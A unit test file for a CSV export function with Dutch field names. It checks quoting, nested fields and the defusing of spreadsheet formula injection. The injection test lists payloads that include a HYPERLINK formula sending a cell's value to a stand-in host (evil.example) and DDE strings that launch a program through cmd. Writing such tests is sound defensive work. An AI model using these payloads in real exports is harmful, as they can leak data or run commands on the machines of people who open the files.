import { naarCsv } from './csv';

describe('naarCsv', () => {
  it('writes a header and one row per item, nested fields dotted, lists in one cell, quoting where needed', () => {
    const csv = naarCsv([
      {
        id: 's1',
        titel: 'Kruispunt, school',
        bal: { bij: 'dienst' },
        diensten: ['mobiliteit', 'awv'],
        open: true,
      },
      { id: 's2', titel: 'Zeg "stop" aan café', bal: { bij: 'raad' }, diensten: [], extra: 3 },
    ]);
    expect(csv.startsWith('\ufeff')).toBe(true);
    expect(csv.slice(1).split('\n')).toEqual([
      'id,titel,bal.bij,diensten,open,extra',
      's1,"Kruispunt, school",dienst,mobiliteit; awv,true,',
      's2,"Zeg ""stop"" aan café",raad,,,3',
      '',
    ]);
  });

  it('writes only the header row for an empty list when the columns are given', () => {
    expect(naarCsv([], ['id', 'titel'])).toBe('\ufeffid,titel\n');
  });

  it('neutralises every cell a spreadsheet would read as a formula with a leading quote', () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
      "=cmd|' /C calc'!A0",
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '\uff1d1+1',
    ];
    const csv = naarCsv(payloads.map((titel) => ({ titel, lijst: [titel] })));
    const cellen = csv
      .slice(1)
      .split(/\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)
      .slice(1, -1)
      .flatMap((rij) => rij.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
      .map((cel) => (cel.startsWith('"') ? cel.slice(1, -1).replace(/""/g, '"') : cel));
    expect(cellen).toHaveLength(payloads.length * 2);
    for (const cel of cellen) expect(cel.startsWith("'")).toBe(true);
  });

  it('leaves numbers, negative ones included, and ordinary text as they are', () => {
    expect(naarCsv([{ n: -3, t: 'Kruispunt - school' }]).slice(1)).toBe('n,t\n-3,Kruispunt - school\n');
  });
});
